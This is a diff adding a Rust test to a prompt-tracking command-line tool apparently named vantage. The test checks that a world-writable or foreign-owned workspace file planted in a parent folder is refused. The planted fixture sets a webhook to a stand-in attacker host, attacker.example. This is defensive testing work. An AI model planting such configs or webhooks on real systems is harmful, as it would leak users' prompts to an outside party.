@@ -204,3 +204,60 @@ fn a_report_cut_short_by_a_full_disk_leaves_the_old_report_whole() {
     assert!(whole.status.success(), "{}", stderr(&whole));
     assert!(std::fs::read_to_string(&report).unwrap().contains("<html"));
 }
+
+#[cfg(unix)]
+#[test]
+fn a_workspace_planted_in_a_parent_folder_writable_by_others_is_used_by_no_command() {
+    use std::os::unix::fs::PermissionsExt as _;
+    let shared = tempfile::tempdir().unwrap();
+    let planted = shared.path().join("vantage.toml");
+    let text = "webhook = \"http://attacker.example/hook\"\n\n[[sets]]\nname = \"boots\"\nprompts = [\"planted prompt\"]\nmodels = [\"copilot\"]\n";
+    std::fs::write(&planted, text).unwrap();
+    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o666)).unwrap();
+    let mine = shared.path().join("me");
+    std::fs::create_dir(&mine).unwrap();
+    for args in [
+        &["--demo", "track", "run", "boots", "--yes"][..],
+        &["--demo", "ai", "best hiking boots"],
+        &["track", "set", "new", "crm", "--prompt", "my secret prompt"],
+        &["--demo", "track", "list"],
+    ] {
+        let output = vantage(&mine, args);
+        let said = stderr(&output);
+        assert_eq!(output.status.code(), Some(2), "{args:?}: {said}");
+        assert!(
+            said.contains(&planted.display().to_string()) && said.contains("others may write it"),
+            "{args:?}: {said}"
+        );
+    }
+    assert_eq!(
+        std::fs::read_to_string(&planted).unwrap(),
+        text,
+        "nothing written into it"
+    );
+    let history = vantage(&mine, &["--demo", "history", "--json"]);
+    let listed = String::from_utf8_lossy(&history.stdout);
+    assert!(
+        !listed.contains("best hiking boots"),
+        "nothing was asked: {listed}"
+    );
+
+    // Owned by another user, even with a safe mode: refused the same way (tests run as root,
+    // who may give a file away).
+    std::fs::set_permissions(&planted, std::fs::Permissions::from_mode(0o644)).unwrap();
+    if std::os::unix::fs::chown(&planted, Some(65534), None).is_ok() {
+        let output = vantage(&mine, &["--demo", "track", "list"]);
+        let said = stderr(&output);
+        assert_eq!(output.status.code(), Some(2), "{said}");
+        assert!(said.contains("owned by another user"), "{said}");
+        // Listed in the config file, it is trusted.
+        let config = mine.join("none.toml");
+        std::fs::write(
+            &config,
+            format!("safe_workspaces = [{:?}]\n", planted.display().to_string()),
+        )
+        .unwrap();
+        let output = vantage(&mine, &["--demo", "track", "list"]);
+        assert!(output.status.success(), "{}", stderr(&output));
+    }
+}
